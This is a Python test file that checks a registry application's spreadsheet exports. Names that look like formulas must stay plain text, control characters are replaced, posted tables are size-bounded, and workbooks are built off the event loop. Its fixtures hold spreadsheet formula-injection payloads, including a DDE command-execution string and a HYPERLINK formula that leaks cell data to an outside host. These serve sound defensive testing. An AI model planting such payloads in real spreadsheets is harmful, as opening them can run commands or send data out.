"""Workbooks gridreg writes are safe to open: text that looks like a formula stays text, a
stored control character cannot break an export, and a posted table workbook is bounded and
built off the event loop."""

from __future__ import annotations

import asyncio
import io
import sys
import time
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook
from sqlalchemy import update

from registry.core.config import Settings
from registry.core.models import Member
from registry.reports.workbooks import Table
from registry.web import downloads
from tests.support import Registry
from tests.workbooks import two_communities

RENAME = """
mutation($place: String!, $name: String!) {
  updatePlace(input: {place: $place, name: $name}) { userErrors { code } }
}"""
ENROL = """
mutation($name: String!) {
  createMember(input: {code: "A-M9", name: $name, status: PROBATIONARY, joined: "2015-07-01",
                       organisation: "A-ZB"}) { userErrors { code } }
}"""

# Names an organiser may type or a workbook may bring; none may run as a formula.
ATTACKS = {
    "A-E-B2": "=cmd|' /C calc'!A0",  # a place renamed through the API
    "B-E-B2": '=HYPERLINK("http://x/?"&A1,"x")',  # a place brought by an import
    "A-M9": "=1+1",  # a member enrolled through the API
}
# A name stored before control characters were refused, holding characters no workbook may
# hold, and how every export shows it.
STORED = "B\x01党员\uffff3"
SHOWN = "B\ufffd党员\ufffd3"


async def world_with_formulas(registry: Registry) -> None:
    """Two communities whose uncovered buildings (gaps in every coverage report) and
    overdue probationary members (violations) carry names that look like formulas, and one
    member's name stored before control characters were refused."""
    rows = two_communities()
    for place in rows["places"]:
        if place["code"] == "B-E-B2":
            place["name"] = ATTACKS["B-E-B2"]
    await registry.load(rows)
    api = await registry.client()
    renamed = await api(RENAME, {"place": "A-E-B2", "name": ATTACKS["A-E-B2"]})
    assert renamed["updatePlace"]["userErrors"] == []
    enrolled = await api(ENROL, {"name": ATTACKS["A-M9"]})
    assert enrolled["createMember"]["userErrors"] == []
    async with registry.db.write() as session:
        await session.execute(
            update(Member).where(Member.code == "B-M3").values(name=STORED, joined=date(2015, 7, 1))
        )


async def viewer(registry: Registry) -> dict[str, str]:
    """Headers of a community viewer: the least a caller of the downloads may be."""
    await registry.load(two_communities())
    return {"Authorization": f"Bearer {await registry.token('viewer', 'A-DW')}"}


def text_cells(book: Workbook) -> dict[str, str]:
    """Every text cell of a workbook by its value, with its stored type."""
    return {
        cell.value: cell.data_type
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def assert_no_formula(book: Workbook) -> None:
    """Every name that looks like a formula is a text cell holding it as typed, and the
    stored name with control characters is there with those characters shown as U+FFFD."""
    cells = text_cells(book)
    for name in [*ATTACKS.values(), SHOWN]:
        assert cells.get(name) == "s", f"{name!r} is not a text cell: {cells.get(name)}"
    assert all(kind == "s" for kind in cells.values())


async def test_names_that_look_like_formulas_are_text_in_the_command_line_export(
    registry: Registry, tmp_path: Path
) -> None:
    await world_with_formulas(registry)
    out = tmp_path / "coverage.xlsx"

    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "registry.cli.main", "--database", registry.db.url,
        "export", "coverage", "--scope", "S", "--out", str(out),
        stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    _, stderr = await process.communicate()

    assert process.returncode == 0, stderr.decode()
    assert_no_formula(load_workbook(out))


async def test_names_that_look_like_formulas_are_text_in_the_console_downloads(
    registry: Registry,
) -> None:
    await world_with_formulas(registry)
    headers = {"Authorization": f"Bearer {await registry.token('admin')}"}

    coverage = await registry.http.get("/console/export/coverage.xlsx?scope=S", headers=headers)
    table = await registry.http.post(
        "/console/export/table.xlsx",
        json={"tables": [{"title": "=1+1", "columns": ["@SUM(A1)", "+1"],
                          "rows": [["=1+1", "-1", 3, None, "\t=1", "a\uffff"]]}]},
        headers=headers,
    )  # fmt: skip

    assert coverage.status_code == 200, coverage.text
    assert_no_formula(load_workbook(io.BytesIO(coverage.content)))
    assert table.status_code == 200, table.text
    sheet = load_workbook(io.BytesIO(table.content)).worksheets[0]
    assert [(c.value, c.data_type) for c in sheet[2]] == [
        ("=1+1", "s"), ("-1", "s"), (3, "n"), (None, "n"), ("\t=1", "s"), ("a\ufffd", "s")
    ]  # fmt: skip
    assert [(c.value, c.data_type) for c in sheet[1] if c.value] == [("@SUM(A1)", "s"), ("+1", "s")]


async def test_a_posted_workbook_over_a_bound_is_refused_and_says_which(
    registry: Registry,
) -> None:
    headers = await viewer(registry)
    empty = {"columns": [], "rows": []}
    over = {
        "tables": {"tables": [empty] * (downloads.MAX_TABLES + 1)},
        "columns": {"tables": [{"columns": ["c"] * (downloads.MAX_COLUMNS + 1), "rows": []}]},
        "rows in one table": {"tables": [{"columns": [], "rows": [[]] * (downloads.MAX_ROWS + 1)}]},
        "cells": {"tables": [{"columns": ["a"] * 50, "rows": [["x"] * 50] * 4_001}]},
        "characters in one cell": {
            "tables": [{"columns": ["a"], "rows": [["x" * (downloads.MAX_TEXT + 1)]]}]
        },
    }
    values = {"tables": downloads.MAX_TABLES, "columns": downloads.MAX_COLUMNS,
              "rows in one table": downloads.MAX_ROWS, "cells": downloads.MAX_CELLS,
              "characters in one cell": downloads.MAX_TEXT}  # fmt: skip
    for limit, body in over.items():
        response = await registry.http.post(
            "/console/export/table.xlsx", json=body, headers=headers
        )
        assert response.status_code == 413, (limit, response.text)
        refusal = response.json()
        assert refusal["code"] == "LIMIT_EXCEEDED"
        assert refusal["params"] == {"limit": limit, "value": values[limit]}


async def test_malformed_table_bodies_get_a_coded_400(registry: Registry) -> None:
    headers = await viewer(registry) | {"Content-Type": "application/json"}
    bodies = [b"null", b"1", b'"x"', b"[]", b'{"tables": 5}', b'{"tables": [1]}',
              b'{"tables": [{"columns": [], "rows": [1]}]}',
              b'{"tables": [{"columns": [], "rows": [[{"a": 1}]]}]}',
              b'{"tables": [{"columns": [], "rows": [[["x"]]]}]}',
              b'{"tables": [{"columns": [{"a": 1}], "rows": []}]}',
              b'{"tables": [{"title": ["x"], "columns": [], "rows": []}]}',
              b'{"filename": 5, "tables": []}', b'{"tables": [[]]}',
              b'{"tables": [{"columns": [], "rows": [[1e400]]}]}',
              b"\xff\xfe not utf-8", b"{not json"]  # fmt: skip
    for body in bodies:
        response = await registry.http.post(
            "/console/export/table.xlsx", content=body, headers=headers
        )
        assert response.status_code == 400, (body, response.text)
        assert response.json()["code"] == "BAD_REQUEST", body


async def test_a_workbook_is_built_while_the_server_keeps_answering(
    registry: Registry, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Building a workbook holds no request up: given one that takes two seconds to build,
    /healthz answers at once meanwhile, because workbooks are built off the event loop."""
    headers = await viewer(registry)
    slow_build = downloads.workbook_bytes

    def slow(tables: list[Table]) -> bytes:
        time.sleep(2)  # as a large workbook keeps a CPU busy
        return slow_build(tables)

    monkeypatch.setattr(downloads, "workbook_bytes", slow)
    export = asyncio.create_task(
        registry.http.post(
            "/console/export/table.xlsx",
            json={"tables": [{"columns": ["n"], "rows": [[1]]}]},
            headers=headers,
        )
    )
    await asyncio.sleep(0.5)  # the workbook is being built
    started = time.perf_counter()
    health = await registry.http.get("/healthz")
    waited = time.perf_counter() - started
    response = await export

    assert health.status_code == 200 and response.status_code == 200, response.text
    assert waited < 1.0, f"/healthz waited {waited:.1f} s for a workbook"


async def test_the_largest_workbook_the_bounds_allow_builds_while_health_checks_answer(
    registry: Registry,
) -> None:
    """Given the largest posted workbook the bounds allow (seconds of CPU to build), when it
    is being built, then /healthz keeps answering, and the workbook is whole.

    Built on the event loop, /healthz would answer at most once, after waiting for the whole
    build; timings are compared with the build's own, so a slower machine is no failure."""
    headers = await viewer(registry)
    rows = [[i % 10] * 20 for i in range(downloads.MAX_CELLS // 20 - 1)]
    started = time.perf_counter()
    export = asyncio.create_task(
        registry.http.post(
            "/console/export/table.xlsx",
            json={"tables": [{"columns": ["n"] * 20, "rows": rows}]},
            headers=headers,
        )
    )
    waits: list[float] = []
    while not export.done():
        asked = time.perf_counter()
        health = await registry.http.get("/healthz")
        waits.append(time.perf_counter() - asked)
        assert health.status_code == 200
        await asyncio.sleep(0.05)
    response = await export
    built = time.perf_counter() - started

    assert response.status_code == 200, response.text
    assert load_workbook(io.BytesIO(response.content)).worksheets[0].max_row == len(rows) + 1
    assert len(waits) >= 5, f"/healthz answered {len(waits)} times in {built:.1f} s"
    assert sorted(waits)[len(waits) // 2] < 0.25, waits
    assert max(waits) < built / 2, f"/healthz waited {max(waits):.2f} s of {built:.2f} s"


async def test_a_posted_workbook_over_the_body_limit_is_refused_in_the_consoles_shape(
    registry: Registry, settings: Settings
) -> None:
    headers = await viewer(registry)
    rows = [["x" * 1000] * 10] * (settings.max_body_bytes // 10_000 + 1)
    response = await registry.http.post(
        "/console/export/table.xlsx", json={"tables": [{"columns": [], "rows": rows}]},
        headers=headers,
    )  # fmt: skip
    assert response.status_code == 413
    refusal = response.json()
    assert refusal["code"] == "PAYLOAD_TOO_LARGE"
    assert refusal["params"] == {"limit": "bytes", "value": settings.max_body_bytes}
    assert refusal["error"]
